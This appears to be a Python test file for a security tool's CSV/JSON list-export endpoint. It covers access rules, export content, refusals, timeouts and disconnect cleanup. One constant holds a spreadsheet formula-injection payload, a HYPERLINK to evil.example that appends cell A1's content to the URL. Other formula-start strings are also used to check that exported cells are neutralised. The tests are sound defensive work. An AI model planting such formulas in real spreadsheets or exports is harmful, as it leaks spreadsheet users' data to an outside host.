"""A whole list as CSV or JSON: streamed, harmless in a spreadsheet, and over when its reader goes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

import orjson
import pytest
from sqlalchemy import text

from hive.search import downloads, rows
from hive.search.outputs import COLUMNS
from hive.search.pipeline import SOURCES
from waggle.query import Statement

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"click")'


async def exported(world: Any, *steps: dict[str, Any], client: Any = None, form: str = "csv", **more: Any) -> Any:
    answer = await (client or world.soc).post(f"/api/v1/query/_export?format={form}", json={"query": list(steps), **more})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["content-security-policy"].startswith("sandbox")
    return list(csv.DictReader(io.StringIO(answer.text))) if form == "csv" else answer.json()


async def waits_for(condition: Any, seconds: float = 10) -> None:
    async with asyncio.timeout(seconds):
        while not await condition():
            await asyncio.sleep(0.05)


class TestAccess:
    async def test_anonymous_foreign_and_visiting_people_get_nothing(self, world: Any) -> None:
        await world.alert()
        body = {"query": [{"_name": "listAlert"}]}
        assert (await world.anonymous.post("/api/v1/query/_export", json=body)).status_code == 401
        assert await exported(world, {"_name": "listAlert"}, client=world.other) == []
        assert await exported(world, {"_name": "listAlert"}, client=world.other, form="json") == []
        await world.owner.execute("UPDATE api_keys SET org_id = NULL WHERE prefix = 'key-ad'")
        visiting = world.client("key-admin-admin", **{"X-Organisation": "soc"})
        assert (await visiting.post("/api/v1/query/_export", json=body)).status_code == 403
        assert len(await exported(world, {"_name": "listAlert"}, client=world.reader)) == 1


class TestContent:
    async def test_json_is_what_the_query_answers(self, world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(rows, "AT_ONCE", 2)
        for n in range(5):
            await world.alert(sourceRef=str(n), date=n, tags=["x"] if n else [])
        steps = [
            {"_name": "listAlert"}, {"_name": "filter", "_eq": {"_field": "tags", "_value": "x"}},
            {"_name": "sort", "_fields": [{"date": "desc"}]},
        ]  # fmt: skip
        assert await exported(world, *steps, form="json") == await world.query(*steps)
        page = {"_name": "page", "from": 1, "to": 3, "extraData": ["status"]}
        assert await exported(world, *steps, page, form="json") == await world.query(*steps, page)
        found = await exported(world, *steps, form="json", includeFields=["sourceRef"])
        assert found == [{"sourceRef": str(n)} for n in (4, 3, 2, 1)]

    async def test_csv_has_a_column_per_field_and_custom_field(self, world: Any) -> None:
        await world.owner.execute(
            "INSERT INTO custom_fields (name, display_name, field_group, description, type, created_at, created_by)"
            " VALUES ('hosts', 'Hosts', 'g', 'd', 'integer', 1, 't'), ('unit', 'Unit', 'g', 'd', 'string', 1, 't')"
        )
        case = await world.case(title='Two\nlines, and "quotes"', tags=["a", "b"], customFields={"hosts": -5})
        (row,) = await exported(world, {"_name": "listCase"})
        assert row["title"] == 'Two\nlines, and "quotes"' and row["tags"] == "a; b" and row["_id"] == case["_id"]
        assert (row["customFields.hosts"], row["customFields.unit"], row["flag"], row["summary"]) == ("-5", "", "false", "")
        assert json.loads(row["access"]) == {"_kind": "OrganisationAccessKind"}
        chosen = await exported(world, {"_name": "listCase"}, includeFields=["number", "customFields.hosts", "nonsense"])
        assert chosen == [{"number": str(case["number"]), "customFields.hosts": "-5", "nonsense": ""}]
        assert "title" not in (await exported(world, {"_name": "listCase"}, excludeFields=["title"]))[0]

    async def test_no_cell_is_a_formula(self, world: Any) -> None:
        for n, start in enumerate(("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "＝1", HOSTILE)):
            await world.alert(sourceRef=str(n), title=start, tags=[start.strip()], description=start)
        for row in await exported(world, {"_name": "listAlert"}):
            for name in ("title", "tags", "description"):
                assert row[name].startswith("'"), row[name]
        named = await exported(world, {"_name": "listAlert"}, includeFields=["=cmd", "title"])
        assert list(named[0]) == ["'=cmd", "title"]

    async def test_every_list_is_exported_with_its_objects_fields(self, world: Any) -> None:
        case = await world.case(tasks=[{"title": "t"}], tags=["x"])
        await world.observable(case["_id"])
        assert await world.query({"_name": "listTag"})
        for source in SOURCES:
            shown = await exported(world, {"_name": f"list{source}"}, form="json")
            table = await exported(world, {"_name": f"list{source}"})
            assert len(shown) == len(table), source
            kind = SOURCES[source].entity.kind
            assert not {key for one in shown for key in one} - set(COLUMNS[kind]), source


class TestRefused:
    async def test_what_is_no_list(self, world: Any) -> None:
        listing = {"_name": "listAlert"}
        for body, query in (
            ({"query": [listing, {"_name": "count"}]}, ""), ({"query": [listing]}, "?format=xlsx"), ({"query": []}, ""),
            ({"query": [listing, {"_name": "aggregation", "_agg": "count"}]}, ""), ({"query": [{"_name": "listNothing"}]}, ""),
            ({"query": [listing, {"_name": "filter", "_eq": {"_field": "nothing", "_value": 1}}]}, ""),
        ):  # fmt: skip
            answer = await world.soc.post(f"/api/v1/query/_export{query}", json=body)
            assert answer.status_code == 400 and answer.json()["message"], (body, answer.text)
        assert world.app.state.downloads._free == 5

    async def test_beyond_the_time_limit(self, world: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        await world.alert()
        begin = "SELECT set_config('statement_timeout', '20', true), CAST(:page AS text), CAST(:org AS bigint) IS NULL"
        monkeypatch.setattr(rows, "BEGIN", text(begin))
        monkeypatch.setattr(rows, "page_sql", lambda search, columns: Statement("SELECT 1 FROM pg_sleep(5)", (), ()))
        answer = await world.soc.post("/api/v1/query/_export", json={"query": [{"_name": "listAlert"}]})
        assert (answer.status_code, answer.json()["type"]) == (408, "SearchError")
        assert world.app.state.downloads._free == 5

    async def test_more_at_once_than_there_are_slots(self, world: Any) -> None:
        world.app.state.downloads._free = 0
        answer = await world.soc.post("/api/v1/query/_export", json={"query": [{"_name": "listAlert"}]})
        assert answer.status_code == 429


@pytest.mark.parametrize("leaves", [True, False])
async def test_the_reader_goes_or_takes_nothing(world: Any, monkeypatch: pytest.MonkeyPatch, leaves: bool) -> None:
    """The connection is free and no statement runs any more."""
    monkeypatch.setattr(rows, "AT_ONCE", 1)
    monkeypatch.setattr(downloads, "STALL_SECONDS", 0.2)
    for n in range(3):
        await world.alert(sourceRef=str(n))
    body = orjson.dumps({"query": [{"_name": "listAlert"}]})
    headers = [(b"authorization", b"Bearer key-soc-org-admin"), (b"content-type", b"application/json")]
    scope = {
        "type": "http", "method": "POST", "path": "/api/v1/query/_export", "query_string": b"", "headers": headers,
        "scheme": "http", "server": ("hive.test", 80), "client": ("127.0.0.1", 1), "http_version": "1.1", "root_path": "",
        "asgi": {"version": "3.0"},
    }  # fmt: skip
    started, sent = asyncio.Event(), 0
    asked: list[int] = []

    async def receive() -> dict[str, Any]:
        if not started.is_set() and not asked:
            asked.append(1)
            return {"type": "http.request", "body": body, "more_body": False}
        await started.wait()
        if not leaves:
            await asyncio.sleep(60)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        nonlocal sent
        if message["type"] == "http.response.body" and message.get("body"):
            sent += 1
            started.set()
            await asyncio.sleep(60)

    try:
        async with asyncio.timeout(10):
            await world.app(scope, receive, send)
    except TimeoutError:
        assert not leaves
    assert sent == 1
    assert world.app.state.downloads._free == 5

    async def quiet() -> bool:
        busy = "datname = current_database() AND usename = 'hive_app' AND state <> 'idle'"
        return bool(await world.owner.fetchval(f"SELECT count(*) = 0 FROM pg_stat_activity WHERE {busy}"))

    await waits_for(quiet)
